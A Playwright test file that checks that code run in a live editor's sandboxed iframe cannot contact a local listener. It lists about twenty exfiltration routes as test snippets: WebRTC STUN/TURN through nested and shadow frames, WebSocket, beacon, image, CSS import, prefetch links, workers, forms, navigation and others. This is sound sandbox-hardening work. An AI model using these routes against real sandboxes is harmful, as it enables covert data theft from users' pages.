import dgram from 'node:dgram';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { wholeChromium } from './browsers';
import { codeThatRuns, openEditor, editorLocators, fillEditor } from './liveEdit';
import { expect, test as base } from './reader';

/** A third-party server that records everything that reaches it. */
interface Listener {
  origin: string;
  /** Number of TCP connections, with or without a request. */
  connections: number;
  /** Port on which it receives datagrams. */
  udp: number;
  heard: string[];
}

const test = base.extend<{ listener: Listener }>({
  // Playwright requires a destructuring pattern, even an empty one.
  listener: async ({}, provide) => {
    const heard: string[] = [];
    const found = { origin: '', udp: 0, connections: 0, heard };
    const server = http.createServer((request, response) => {
      heard.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
    });
    // Counts connections, because even one without a request can leak data by its host name.
    server.on('connection', () => (found.connections += 1));
    const socket = dgram.createSocket('udp4').on('message', () => heard.push('datagram'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    found.origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    found.udp = socket.address().port;
    await provide(found);
    server.closeAllConnections();
    server.close();
    socket.close();
  },
});

// The whole Chromium runs the editor's iframe in a process of its own.
test.use({ launchOptions: wholeChromium });

/** Code that tries to contact the listener, in ways that the policy or the iframe itself blocks. */
const exits: Readonly<Record<string, (listener: Listener) => string>> = {
  'a connection from peer to peer': ({ udp }) => `
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: 'stun:127.0.0.1:${udp}' },
      { urls: 'turn:127.0.0.1:${udp}', username: 'secret', credential: 'x' },
    ] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());`,
  'one from a blank frame': ({ udp }) => `
    const frame = document.body.appendChild(document.createElement('iframe'));
    const inner = (window as any)[0] ?? frame.contentWindow;
    const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());`,
  'one from a frame with a document in its attribute': ({ udp }) => `
    const frame = document.createElement('iframe');
    frame.srcdoc = '<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });' +
      'p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</' + 'script>';
    document.body.append(frame);`,
  'one from a frame in a shadow': ({ udp }) => `
    const root = document.body.appendChild(document.createElement('p')).attachShadow({ mode: 'open' });
    root.innerHTML = '<iframe></iframe>';
    const inner = (window as any)[0] ?? root.querySelector('iframe')!.contentWindow;
    new inner.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }).createDataChannel('x');`,
  WebTransport: ({ origin }) =>
    `await new WebTransport('${origin.replace('http', 'https')}/x').ready;`,
  'a socket': ({ origin }) => `new WebSocket('${origin.replace('http', 'ws')}/socket');`,
  'an event source': ({ origin }) => `new EventSource('${origin}/events');`,
  'a beacon': ({ origin }) => `navigator.sendBeacon('${origin}/beacon', 'x');`,
  'a picture': ({ origin }) => `new Image().src = '${origin}/picture';`,
  'a link to a sheet': ({ origin }) =>
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${origin}/sheet' }));`,
  'a link to what comes next': ({ origin }) =>
    `for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest'])
      document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: '${origin}/' + rel }));`,
  'what a sheet asks for': ({ origin }) => `
    const style = document.createElement('style');
    style.textContent = '@import "${origin}/import"; @font-face { font-family: X; src: url(${origin}/font) }' +
      ' body { background: url(${origin}/ground); font-family: X }';
    document.head.append(style);`,
  'a worker': ({ origin }) => `
    new Worker(URL.createObjectURL(new Blob(['fetch("${origin}/worker")'])));`,
  'a form': ({ origin }) => `
    const form = Object.assign(document.createElement('form'), { action: '${origin}/form' });
    document.body.append(form);
    form.submit();`,
  'a window': ({ origin }) => `window.open('${origin}/window');`,
  'the address of the frame': ({ origin }) => `location.href = '${origin}/navigation';`,
  'a link that is pressed': ({ origin }) => `
    Object.assign(document.body.appendChild(document.createElement('a')), { href: '${origin}/link' }).click();`,
  'a refresh': ({ origin }) => `
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${origin}/refresh' }));`,
};

/** Exits by which Chromium opens a connection before it checks the page's policy, but sends nothing. */
const navigations = ['the address of the frame', 'a link that is pressed', 'a refresh'];

for (const [exit, act] of Object.entries(exits)) {
  test(`edited code reaches nobody by ${exit}`, async ({ reader, listener }) => {
    const { demo } = await openEditor(reader);
    await fillEditor(
      editorLocators(reader).editor,
      codeThatRuns(`${act(listener)} return 'done';`),
    );
    const hasRun = async () =>
      (await demo.getByRole('button', { name: 'Run again' }).isVisible()) ||
      reader.page.frames().some((frame) => frame.url().startsWith('chrome-error:')) ||
      editorLocators(reader)
        .preview.getByText(/said: (refused|done)/)
        .isVisible();
    await expect.poll(hasRun).toBe(true);
    // Waits long enough for everything that was sent to arrive.
    await reader.page.waitForTimeout(500);
    expect(listener.heard).toEqual([]);
    if (!navigations.includes(exit)) expect(listener.connections).toBe(0);
  });
}
